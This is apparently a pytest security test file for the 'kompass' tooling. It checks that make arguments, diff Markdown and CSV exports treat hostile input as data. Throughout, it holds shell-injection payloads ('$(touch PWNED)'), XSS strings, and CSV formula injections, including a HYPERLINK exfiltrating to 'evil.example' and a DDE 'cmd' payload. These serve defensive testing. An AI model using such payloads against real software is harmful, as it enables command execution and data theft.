"""Hostile input to the tooling: make arguments, ``make diff``'s Markdown and
its interruption, and the CSV export. Every value is data, never code."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shlex
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
from bs4 import BeautifulSoup
from markdown_it import MarkdownIt

from conftest import PROJECT, warnings_of
from kompass.diff import compare
from kompass.export import csv_cell

MAKE = shutil.which('make') or 'make'
PAYLOADS = ['x"; touch PWNED; "', "x'; touch PWNED; '", '`touch PWNED`', '$(touch PWNED)',
            '$(shell touch PWNED)', 'x; touch PWNED', '$$(touch PWNED)']


# --- make arguments --------------------------------------------------------


def _project_copy(tmp_path: Path) -> Path:
    """The project in *tmp_path*, as a git repository with one commit, and a
    venv there made of wrappers around this one, so that make installs nothing."""
    copy = tmp_path / 'project'
    shutil.copytree(PROJECT, copy, ignore=shutil.ignore_patterns(
        '_build', '.venv', '.git', '.pytest_cache', '__pycache__', '.mypy_cache',
        '.ruff_cache'))
    env = {**os.environ, 'GIT_AUTHOR_NAME': 't', 'GIT_AUTHOR_EMAIL': 't@t',
           'GIT_COMMITTER_NAME': 't', 'GIT_COMMITTER_EMAIL': 't@t'}
    for args in (['init', '-q', '-b', 'main'], ['add', '-A'], ['commit', '-qm', 'base']):
        subprocess.run(['git', *args], cwd=copy, check=True, env=env)
    venv = tmp_path / 'venv'
    (venv / 'bin').mkdir(parents=True)
    real = Path(sys.executable).parent
    for name in ('python', 'sphinx-build'):
        wrapper = venv / 'bin' / name
        wrapper.write_text(f'#!/bin/sh\nexec {shlex.quote(str(real / name))} "$@"\n')
        wrapper.chmod(0o755)
    (venv / '.installed').touch()  # newer than the copy's requirements.txt
    return copy


def _make(copy: Path, *args: str, **kwargs: object) -> subprocess.CompletedProcess[str]:
    venv = copy.parent / 'venv'
    return subprocess.run([MAKE, '-s', f'VENV={venv}', *args], cwd=copy, capture_output=True,
                          text=True, timeout=300, **kwargs)  # type: ignore[call-overload]


def _pwned(tmp_path: Path) -> list[Path]:
    """Files a payload's ``touch PWNED`` would have made, wherever it ran."""
    return [p for p in tmp_path.rglob('PWNED') if p.is_file()]


def _message(done: subprocess.CompletedProcess[str]) -> list[str]:
    """stderr without make's own ``make: *** [...] Error N`` trailer."""
    return [line for line in done.stderr.splitlines()
            if line.strip() and not line.startswith('make: ***')]


def test_no_recipe_pastes_a_make_variable_into_shell_text() -> None:
    # A recipe gets each value from the environment ("$$VAR"); only $@ (a
    # target's own, fixed name) is expanded by make.
    makefile = (PROJECT / 'Makefile').read_text(encoding='utf8')
    pasted = [
        line for line in makefile.splitlines()
        if line.startswith('\t') and re.search(r'\$(?!@)', line.replace('$$', ''))
    ]
    assert pasted == []


@pytest.mark.parametrize(('municipality', 'year'), [
    *((payload, '2026') for payload in PAYLOADS),
    ('Lund', '2026; touch PWNED'),
    ('Lund', '$(touch PWNED)'),
    ('Lund', '`touch PWNED`'),
])
def test_make_new_takes_its_values_as_data(tmp_path: Path, municipality: str,
                                           year: str) -> None:
    copy = _project_copy(tmp_path)
    before = sorted(p.name for p in (copy / 'reports').iterdir())
    done = _make(copy, 'new', f'MUNICIPALITY={municipality}', f'YEAR={year}')
    assert done.returncode != 0
    assert _pwned(tmp_path) == []
    assert sorted(p.name for p in (copy / 'reports').iterdir()) == before
    message = _message(done)
    assert len(message) == 1 and message[0].startswith('make new: '), done.stderr
    if year == '2026':  # the name, exactly as given, is what is unknown
        assert message[0] == (f'make new: {municipality!r} is not one of Sweden\'s 290 '
                              f'municipalities')
    else:
        assert message[0] == 'make new: YEAR must be a year such as 2026'


def test_make_new_still_writes_a_real_evaluation(tmp_path: Path) -> None:
    copy = _project_copy(tmp_path)
    done = _make(copy, 'new', 'MUNICIPALITY=Lunds kommun', 'YEAR=2026')
    assert done.returncode == 0, done.stderr
    assert (copy / 'reports/lund-2026/index.md').is_file()


@pytest.mark.parametrize('base', [*PAYLOADS, '--output=PWNED', '-h'])
def test_make_diff_takes_an_unknown_base_as_data(tmp_path: Path, base: str) -> None:
    copy = _project_copy(tmp_path)
    done = _make(copy, 'diff', f'BASE={base}')
    assert done.returncode != 0
    assert _pwned(tmp_path) == []
    assert _message(done) == [
        f'make diff: BASE {base!r} is not a commit of this repository (a branch, tag or '
        f'commit id, for example BASE=main)']
    assert done.stdout == ''
    worktrees = subprocess.run(['git', 'worktree', 'list'], cwd=copy, capture_output=True,
                               text=True, check=True).stdout
    assert len(worktrees.splitlines()) == 1


def test_sphinxopts_are_words_never_commands(tmp_path: Path) -> None:
    copy = _project_copy(tmp_path)
    for target in ('html', 'check', 'scores'):
        done = _make(copy, target,
                     'SPHINXOPTS=--no-such-option $(touch PWNED) `touch PWNED` ; touch PWNED')
        assert done.returncode != 0
        assert 'unrecognized arguments: --no-such-option $(touch PWNED) `touch PWNED` ; ' \
               'touch PWNED' in done.stdout + done.stderr
    assert _pwned(tmp_path) == []
    # Still a list of options: split into words (and no file-name expansion).
    done = _make(copy, 'html', 'SPHINXOPTS=-q   --version')
    assert done.returncode == 0 and 'sphinx-build ' in done.stdout


@pytest.mark.parametrize('payload', PAYLOADS)
def test_paths_and_lists_are_data(tmp_path: Path, payload: str) -> None:
    copy = _project_copy(tmp_path)
    done = _make(copy, 'help', f'BUILDDIR={payload}')
    assert f'the website in {payload}/html' in done.stdout
    _make(copy, 'clean', f'BUILDDIR={payload}')
    # TeX missing and not root: tex-deps prints the install line, runs nothing.
    fake = tmp_path / 'bin'
    fake.mkdir()
    (fake / 'kpsewhich').write_text('#!/bin/sh\nexit 1\n')
    (fake / 'id').write_text('#!/bin/sh\necho 1000\n')
    for tool in fake.iterdir():
        tool.chmod(0o755)
    done = _make(copy, 'tex-deps', f'TEX_FILES={payload}', f'TEX_PACKAGES={payload}',
                 env={**os.environ, 'PATH': f'{fake}:{os.environ["PATH"]}'})
    assert done.returncode != 0
    assert f'sudo apt-get install -y --no-install-recommends {payload}' in done.stdout
    assert _pwned(tmp_path) == []


def test_make_help_and_readme_list_the_same_targets() -> None:
    done = subprocess.run([MAKE, '-s', '-C', str(PROJECT), 'help'], capture_output=True,
                          text=True, check=True, timeout=60)
    listed = set(re.findall(r'^  make ([a-z][\w-]*)', done.stdout, re.M))
    readme = (PROJECT / 'README.md').read_text(encoding='utf8')
    table = set(re.findall(r'^\| `make ([a-z][\w-]*)', readme, re.M))
    table |= set(re.findall(r'`make ([a-z][\w-]*)`', readme))
    assert {'lint', 'diff', 'new', 'scores'} <= listed
    assert listed <= table, listed - table


# --- make diff's Markdown ----------------------------------------------------

HOSTILE = {
    'script': '<script>alert(1)</script>',
    'img': '<img src=x onerror=alert(1)>',
    'link': '[klicka](javascript:alert(1))',
    'heading': 'Ort\n# Rubrik\n<b>fet</b>',
    'table': 'a | b | c',
    'emphasis': '**fet** _kursiv_ ~~struken~~',
    'fence': '```',
}


def _entry(slug: str, municipality: str, points: dict[str, int], path: str,
           examples: list[tuple[str, str, str]]) -> dict[str, object]:
    return {
        'slug': slug, 'municipality': municipality, 'year': 2024,
        'criterion_points': {
            c: {'points': p, 'file': path, 'line': 3} for c, p in points.items()
        },
        'areas': {'1': {'points': sum(points.values())}},
        'total': sum(points.values()),
        'good_examples': [
            {'municipality': m, 'criterion': c, 'sentence': s} for m, c, s in examples
        ],
    }


def _render(markdown: str) -> BeautifulSoup:
    """As GitHub renders a job summary: CommonMark with tables, raw HTML allowed."""
    html = MarkdownIt('commonmark', {'html': True}).enable('table').render(markdown)
    return BeautifulSoup(html, 'html.parser')


def test_diff_markdown_carries_no_markup_from_reports() -> None:
    name = ' '.join(HOSTILE.values())
    path = 'reports/x|y`z``/<img src=x onerror=alert(1)>.md'
    sentence = '<script>alert(2)</script> | [x](javascript:alert(3)) ```'
    base = {'evaluations': [
        _entry('ort-2024', name, {'1.1': 10, '1|2': 1}, path, []),
        _entry('gone-2020', HOSTILE['img'], {'1.1': 1}, path, []),
    ]}
    head = {'evaluations': [
        _entry('ort-2024', name, {'1.1': 12, '1|2': 2}, path, [(HOSTILE['script'], '1.1',
                                                              sentence)]),
        _entry('new-2025', HOSTILE['link'], {'1.1': 3}, path, []),
    ]}
    warnings = ['reports/x.md:1: WARNING: ``` <script>alert(4)</script>',
                '```', '<img src=x onerror=alert(5)>']
    text = compare(base, head, [], warnings, '<img src=x onerror=alert(6)>')
    soup = _render(text)
    tags = {tag.name for tag in soup.find_all(True)}
    assert tags <= {'h2', 'h3', 'p', 'ul', 'li', 'strong', 'code', 'pre', 'table', 'thead',
                    'tbody', 'tr', 'th', 'td'}, tags
    # Each value is shown as written (on one line), nothing more.
    shown = soup.get_text()
    assert ' '.join(name.split()) in shown
    assert HOSTILE['img'] in shown and HOSTILE['link'] in shown
    assert sentence in shown
    assert [h.get_text() for h in soup.find_all('h3')] == [
        'Nya utvärderingar', 'Borttagna utvärderingar',
        f'{" ".join(name.split())} 2024 (ort-2024)', 'Nya varningar']
    # The table keeps its four columns; the file name stays in its cell.
    cells = [[td.get_text() for td in row.find_all('td')] for row in soup.select('tbody tr')]
    assert cells == [['1.1', '10', '12', f'{path}:3'], ['1|2', '1', '2', f'{path}:3']]
    # The warnings stay inside one code block, however many backticks they hold.
    blocks = soup.find_all('pre')
    assert len(blocks) == 1 and blocks[0].get_text().splitlines() == warnings


def test_diff_markdown_of_plain_values_reads_as_before() -> None:
    base = {'evaluations': [_entry('ort-2024', 'Ort', {'1.1': 10}, 'r/o.md', [])]}
    head = {'evaluations': [_entry('ort-2024', 'Ort', {'1.1': 12}, 'r/o.md',
                                   [('Nacka', '1.1', 'Bra.')])]}
    text = compare(base, head, [], ['a warning'], 'main')
    assert '### Ort 2024 (`ort-2024`)' in text
    assert '| 1\\.1 | 10 | 12 | `r/o.md:3` |' in text
    assert '+ gott exempel (nytt): **Nacka** för 1\\.1: "Bra\\."' in text
    assert '```\na warning\n```' in text


# --- make diff, interrupted --------------------------------------------------


def _wait_for(predicate, what: str, timeout: float = 120) -> None:  # type: ignore[no-untyped-def]
    deadline = time.monotonic() + timeout
    while not predicate():
        if time.monotonic() > deadline:
            raise AssertionError(f'timed out waiting for {what}')
        time.sleep(0.05)


@pytest.mark.parametrize(('signum', 'stage'), [
    (signal.SIGINT, 'out-base'),  # Ctrl-C while BASE's reports build in the worktree
    (signal.SIGTERM, 'out-base'),  # CI cancelling the job, same moment
    (signal.SIGTERM, 'out-head'),  # after the worktree is gone, during the second build
])
def test_interrupted_make_diff_leaves_no_worktree_and_no_folder(
        tmp_path: Path, signum: int, stage: str) -> None:
    copy = _project_copy(tmp_path)
    area = copy / 'reports/karlskrona-2022/omrade-1.md'
    area.write_text(area.read_text(encoding='utf8').replace(':points: 11', ':points: 12'),
                    encoding='utf8')
    tmp = tmp_path / 'tmp'
    tmp.mkdir()
    venv = copy.parent / 'venv'
    proc = subprocess.Popen(
        [MAKE, '-s', f'VENV={venv}', 'diff'], cwd=copy, stdout=subprocess.PIPE,
        stderr=subprocess.PIPE, text=True, start_new_session=True,
        env={**os.environ, 'TMPDIR': str(tmp)},
    )
    try:
        _wait_for(lambda: any(tmp.glob(f'kompass-diff-*/{stage}/doctrees')),
                  f'the build of {stage}')
        if stage == 'out-base':
            assert any(tmp.glob('kompass-diff-*/base/conf.py'))
        os.killpg(proc.pid, signum)  # as a terminal's Ctrl-C or a CI runner does
        _, stderr = proc.communicate(timeout=120)
    finally:
        if proc.poll() is None:
            os.killpg(proc.pid, signal.SIGKILL)
            proc.wait()
    assert proc.returncode != 0
    name = signal.Signals(signum).name
    assert (f'make diff: interrupted ({name}); its temporary worktree and folder are removed'
            in stderr)
    assert 'Traceback' not in stderr
    assert list(tmp.iterdir()) == []
    worktrees = subprocess.run(['git', 'worktree', 'list', '--porcelain'], cwd=copy,
                               capture_output=True, text=True, check=True).stdout
    assert worktrees.count('worktree ') == 1
    assert not (copy / '.git/worktrees').exists() or not any(
        (copy / '.git/worktrees').iterdir())


# --- make scores: the CSV ---------------------------------------------------


@pytest.mark.parametrize(('value', 'cell'), [
    ('=1+2', "'=1+2"), ('+SUM(1)', "'+SUM(1)"), ('-2+3', "'-2+3"), ('@A1', "'@A1"),
    ('\t=1', "'\t=1"), ('\r=1', "'\r=1"), ('-', "'-"),
    ('-5', '-5'), ('+3', '+3'), ('-1.5', '-1.5'), ('-2e3', '-2e3'), ('-١', "'-١"),
    (-4, -4), (0, 0), (None, ''), ('Lund', 'Lund'), ('a=b', 'a=b'),
])
def test_csv_cell_neutralises_formulas_and_keeps_numbers(value: object, cell: object) -> None:
    assert csv_cell(value) == cell


EQ = 'hyperlink-http-evil-example-a1-klicka-2020'  # slugs follow the names


@pytest.mark.sphinx('scores', testroot='export', freshenv=True)
def test_score_csv_carries_no_formula(app) -> None:  # type: ignore[no-untyped-def]
    app.build(force_all=True)
    assert warnings_of(app) == []
    rows = list(csv.reader(io.StringIO(
        (app.outdir / 'scores.csv').read_text(encoding='utf8'))))
    head, body = rows[0], rows[1:]
    by_slug = {row[0]: dict(zip(head, row, strict=True)) for row in body}
    assert {slug: row['municipality'] for slug, row in by_slug.items()} == {
        EQ: '\'=HYPERLINK("http://evil.example/?"&A1;"Klicka")',
        'sum-1-2-2021': "'+SUM(1;2)",
        '2-3-2021': "'-2+3",
        'sum-a1-a2-2021': "'@SUM(A1:A2)",
        '5-2021': '-5',
    }
    for row in body:
        for cell in row:
            assert not cell.startswith(('=', '+', '@', '\t', '\r')), cell
            assert not cell.startswith('-') or re.fullmatch(r'-\d+', cell), cell
    # The numbers stay numbers.
    eq = by_slug[EQ]
    assert [eq[c] for c in ('1.1', '1.2', '2.1', '2.2', '1', '2', 'total')] == [
        '10', '20', '30', '40', '30', '70', '100']
    # The JSON keeps what was written, unchanged.
    data = json.loads((app.outdir / 'scores.json').read_text(encoding='utf8'))
    sources = {e['slug']: (e['municipality'], e['source']) for e in data['evaluations']}
    assert sources[EQ] == ('=HYPERLINK("http://evil.example/?"&A1;"Klicka")',
                           "=cmd|' /C calc'!A0")
    assert sources['5-2021'] == ('-5', '-1.5')


# --- make lint -----------------------------------------------------------------


def _lint_root(tmp_path: Path, files: dict[str, str]) -> Path:
    """A tiny project with the real Makefile and pyproject.toml, and a venv of
    wrappers around this one's ruff and mypy."""
    root = tmp_path / 'lint'
    root.mkdir()
    for name in ('Makefile', 'pyproject.toml', 'requirements.txt'):
        shutil.copyfile(PROJECT / name, root / name)
    for name, content in files.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(content, encoding='utf8')
    venv = tmp_path / 'venv'
    (venv / 'bin').mkdir(parents=True)
    for name in ('ruff', 'mypy'):
        wrapper = venv / 'bin' / name
        real = Path(sys.executable).parent / name
        wrapper.write_text(f'#!/bin/sh\nexec {shlex.quote(str(real))} "$@"\n')
        wrapper.chmod(0o755)
    (venv / '.installed').touch()
    return root


CLEAN = {
    '_ext/kompass/__init__.py': '"""The package."""\n',
    '_ext/kompass/good.py': 'def double(value: int) -> int:\n    return value * 2\n',
    # Tests may leave pytest's fixtures unannotated.
    'tests/test_good.py': ('from kompass.good import double\n\n\n'
                           'def test_double(tmp_path):\n    assert double(2) == 4\n'),
    # Each test root has its own conf.py: excluded, or mypy stops at the duplicate.
    'tests/roots/test-a/conf.py': "extensions = ['kompass']\n",
    'tests/roots/test-b/conf.py': "extensions = ['kompass']\n",
}


def test_make_lint_passes_clean_code(tmp_path: Path) -> None:
    root = _lint_root(tmp_path, CLEAN)
    done = _make(root, 'lint')
    assert done.returncode == 0, done.stdout + done.stderr
    assert 'All checks passed!' in done.stdout and 'Success: no issues found' in done.stdout


def test_make_lint_fails_on_what_ruff_finds(tmp_path: Path) -> None:
    root = _lint_root(tmp_path, {**CLEAN, 'tests/test_good.py': 'import os\n'})
    done = _make(root, 'lint')
    assert done.returncode != 0
    assert 'tests/test_good.py:1:8: F401' in done.stdout


def test_make_lint_fails_on_what_mypy_finds(tmp_path: Path) -> None:
    root = _lint_root(tmp_path, {
        **CLEAN, '_ext/kompass/bad.py': 'def untyped(value):\n    return value\n'})
    done = _make(root, 'lint')
    assert done.returncode != 0
    assert ('_ext/kompass/bad.py:1: error: Function is missing a type annotation  '
            '[no-untyped-def]') in done.stdout


def test_ci_runs_make_lint_with_pinned_tools() -> None:
    script = (PROJECT / '.ci/run').read_text(encoding='utf8')
    assert re.search(r'^make lint\b', script, re.M)
    pins = (PROJECT / 'requirements.txt').read_text(encoding='utf8')
    for tool in ('ruff', 'mypy', 'jsonschema'):
        assert re.search(rf'^{tool}==[\d.]+$', pins, re.M), tool
